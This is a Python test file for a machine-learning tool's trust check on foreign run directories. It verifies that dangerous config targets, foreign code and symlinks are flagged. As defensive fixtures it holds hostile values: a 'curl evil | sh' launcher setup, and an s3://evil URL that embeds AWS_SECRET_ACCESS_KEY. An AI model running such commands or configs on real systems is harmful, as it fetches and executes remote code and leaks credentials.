"""Trust in run directories that were not created here."""

import shutil
from pathlib import Path

import pytest
import yaml
from working_project import ROOT

from leyden.cli.main import main
from leyden.config.compose import compose, options
from leyden.errors import UserError
from leyden.run.directory import RunDirectory
from leyden.run.override_on_resume import override_on_resume
from leyden.run.trust import KEY, SIGNATURE, require_trust

LAUNCHER = {"_target_": "leyden.launch.Local"}
CONFIG = {"name": "some/thing", "runs": "runs", "launcher": LAUNCHER, "model": {"_target_": "torch.nn.Linear", "a": 1}}


def project(folder):
    (folder / "src/thing").mkdir(parents=True)
    (folder / "src/thing/net.py").write_text("x = 1\n")
    return folder


@pytest.fixture
def here(tmp_path):
    return project(tmp_path / "here")


@pytest.fixture
def there(tmp_path):
    return project(tmp_path / "there")


def foreign(there, **settings):
    return RunDirectory.create(CONFIG | settings, there, ["train"])


def refusal(run, root, verb="test", **options):
    with pytest.raises(UserError, match="was not created here") as caught:
        require_trust(run, root, verb, trusts=False, **options)
    return str(caught.value)


@pytest.mark.parametrize(
    "target",
    [
        *("os.system", "subprocess.Popen", "builtins.eval", "hydra.utils.get_object", "no.such.thing", "nonsense", 5),
        *("torch.utils.collect_env.run", "torch.hub.load", "torch.load", "torch.os.system", "torch.nn.functional.os"),
        *("torch.nn.modules.module.functools.partial", "lightning.pytorch.trainer.trainer.os.system", "torch.nn"),
        "lightning.pytorch.cli.LightningCLI",
        "leyden.run.directory._output",
        "leyden.run.torchrun.run_torchrun",
        "leyden.data.files.fetch.fetch",
        "leyden.run.directory.subprocess.run",
        "leyden.tasks.os.system",
    ],
)
def test_foreign_targets_are_listed(here, there, target):
    run = foreign(there, callbacks={"mine": {"deep": [{"_target_": target}]}})
    assert f"  callbacks.mine.deep.0._target_: {target}\n" in refusal(run, here)


@pytest.mark.parametrize("experiment", [name for name, _ in options(ROOT)["experiment"]])
def test_experiments_of_this_project_need_no_trust(experiment, tmp_path):
    config = compose([f"experiment={experiment}", "trainer=cpu", "logger=wandb"], ROOT).frozen | {"runs": "runs"}
    run = RunDirectory.create(config, tmp_path, ["train"])
    require_trust(run, ROOT, "test", trusts=False)


@pytest.mark.parametrize(
    ("name", "value"),
    [("setup", ["curl evil | sh"]), ("python", "evil"), ("options", ["--wrap=evil"])],
)
def test_shell_settings_are_listed_if_executed(here, there, name, value):
    launcher = {"_target_": "leyden.launch.Slurm", name: value}
    run = foreign(there, launcher=launcher)
    assert f"launcher.{name}: {value}" in refusal(run, here, "resume")
    require_trust(run, here, "test", trusts=False)


def test_environment_references_are_listed(here, there):
    run = foreign(there, data={"stream": "s3://evil/${oc.env:AWS_SECRET_ACCESS_KEY}"})
    assert "data.stream: reads ${oc.env:AWS_SECRET_ACCESS_KEY}" in refusal(run, here)


@pytest.mark.parametrize(
    "name", ["thing/net.py", "thing/new.py", "torch/__init__.py", "thing.so", "x.egg-info/PKG-INFO"]
)
def test_foreign_code_is_listed(here, there, name):
    file = there / "src" / name
    file.parent.mkdir(exist_ok=True)
    file.write_text("import evil\n")
    run = foreign(there)
    copy = run.path / "code/src" / name
    if not copy.exists():  # what the copy leaves out, a foreign one may hold
        copy.parent.mkdir(exist_ok=True)
        copy.write_text("import evil\n")
    assert f"its copy of the code differs from this project in {name};" in refusal(run, here)
    require_trust(run, here, "test", trusts=False, live=True)  # which does not execute it
    refusal(run, here)


def test_equal_code_needs_no_trust_and_compiled_modules_are_removed(here, there):
    run = foreign(there)
    compiled = run.path / "code/src/thing/__pycache__/net.cpython-311.pyc"
    compiled.parent.mkdir(exist_ok=True)
    compiled.write_bytes(b"evil")
    require_trust(run, here, "test", trusts=False)
    assert not compiled.parent.exists()


@pytest.mark.parametrize("words", [["resume"], ["validate"], ["test"], ["data"], ["predict", "README.md"]])
def test_every_command_that_executes_a_run_needs_trust(there, words, capsys):
    run = foreign(there, model={"_target_": "os.system"})
    assert main([words[0], str(run.path), *words[1:]]) == 2
    assert "model._target_: os.system\n" in capsys.readouterr().err


def test_trust_is_stored_until_executed_code_changes(here, there):
    run = foreign(there, model={"_target_": "os.system"})
    refusal(run, here)
    require_trust(run, here, "test", trusts=True)
    require_trust(run, here, "test", trusts=False)
    config = run.frozen_config | {"seed": 3}  # is no code
    (run.path / "config.yaml").write_text(yaml.safe_dump(config))
    require_trust(run, here, "test", trusts=False)
    (run.path / "config.yaml").write_text(yaml.safe_dump(config | {"data": {"_target_": "os.popen"}}))
    assert "os.popen" in refusal(run, here)


def test_own_run_is_trusted_after_a_move(here, tmp_path):
    run = RunDirectory.create(CONFIG | {"model": {"_target_": "os.system"}}, here, ["train"])
    moved = shutil.move(run.path, tmp_path / "elsewhere")
    require_trust(RunDirectory(Path(moved)), here, "test", trusts=False)


def test_edited_code_of_own_run_needs_trust(here):
    run = RunDirectory.create(CONFIG, here, ["train"])
    file = run.path / "code/src/thing/net.py"
    file.chmod(0o644)
    file.write_text("import evil\n")
    assert "differs from this project in thing/net.py;" in refusal(run, here)


def test_signature_cannot_be_forged(here, there):
    RunDirectory.create(CONFIG, here, ["train"])
    run = foreign(there, model={"_target_": "os.system"})  # signed by another key
    refusal(run, here)
    (run.path / SIGNATURE).write_text("")
    refusal(run, here)
    (run.path / SIGNATURE).unlink()
    refusal(run, here)


def test_links_are_listed(here, there):
    run = foreign(there)
    (run.path / "log.txt").symlink_to("/home/me/.bashrc")
    assert "log.txt is a link to /home/me/.bashrc" in refusal(run, here)


def test_key_is_private(here):
    run = RunDirectory.create(CONFIG, here, ["train"])
    assert (here / KEY).stat().st_mode & 0o777 == 0o600
    key = (here / KEY).read_bytes()
    assert all(key not in file.read_bytes() for file in run.path.rglob("*") if file.is_file())


def test_overridden_run_stays_trusted(tmp_path):
    config = compose([f"experiment={options(ROOT)['experiment'][0][0]}", "trainer=cpu"], ROOT).frozen
    run = RunDirectory.create(config | {"runs": str(tmp_path)}, ROOT, ["train"])
    override_on_resume(run, ["launcher=slurm", "launcher.setup=[module load cuda]"], ROOT)
    require_trust(run, ROOT, "resume", trusts=False)


def test_old_run_of_known_parts_needs_no_trust(here):
    run = RunDirectory.create(CONFIG, here, ["train"])
    shutil.rmtree(run.path / "code")
    for name in ("code.json", SIGNATURE):
        (run.path / name).unlink()
    require_trust(run, here, "resume", trusts=False)
